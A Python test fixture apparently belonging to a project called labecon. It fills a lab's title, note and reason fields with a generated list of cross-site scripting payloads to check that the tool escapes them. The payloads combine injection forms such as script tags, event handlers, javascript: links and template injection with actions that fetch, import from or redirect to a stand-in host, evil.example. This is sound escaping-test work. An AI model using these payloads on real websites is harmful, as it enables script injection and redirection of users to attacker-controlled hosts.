"""Texts that would like to be scripts, and a workspace whose lab speaks in them."""

from __future__ import annotations

import json
import re
from pathlib import Path

from labecon.cli.main import main

_ACTS = (
    "alert(1)", "fetch('//evil.example')", "document.body.append(1)", "import('//evil.example/x.js')",
    "location='//evil.example'",
)  # fmt: skip
_FORMS = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>',
    "' autofocus onfocus={} x='", "<a href=\"javascript:{}\">x</a>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<math><mi//xlink:href=\"data:x,<script>{}</script>\">", "--><script>{}</script><!--", "<body onload={}>",
    "<details open ontoggle={}>", "{{constructor.constructor('{}')()}}", "`${{{}}}`", "]]><script>{}</script>",
    "<style>@import'//evil.example/{}'</style>", "<base href=//evil.example/{}>", "<form action=javascript:{}><button>",
    "<object data=javascript:{}>", "</title><script>{}</script>", "</textarea><script>{}</script>",
)  # fmt: skip
PAYLOADS = [form.replace("{}", act) for form in _FORMS for act in _ACTS]


def hostile_workspace(folder: Path) -> Path:
    """A workspace with the lab `evil`, whose title, note and reasons are payloads.

    Args:
        folder: An empty folder.

    Returns:
        The same.
    """
    assert main(["new", "evil", "--workspace", str(folder)]) == 0
    file = folder / "labs" / "evil.toml"
    text = file.read_text(encoding="utf-8")
    parts = [" ".join(PAYLOADS[start::4]) for start in range(4)]
    text = text.replace(
        'title = { en = "evil", zh = "evil" }', f"title = {{ en = {quoted(parts[0])}, zh = {quoted(parts[1])} }}"
    )
    text = re.sub(
        r'\[note\]\nen = ".*"\nzh = ".*"', lambda _: f"[note]\nen = {quoted(parts[2])}\nzh = {quoted(parts[3])}", text
    )
    reasons = iter([*PAYLOADS] * 3)
    text = re.sub(r'reason = "(?:[^"\\]|\\.)*"', lambda _: f"reason = {quoted(next(reasons))}", text)
    file.write_text(text, encoding="utf-8")
    return folder


def quoted(text: str) -> str:
    """A text as TOML has it."""
    return json.dumps(text, ensure_ascii=False)
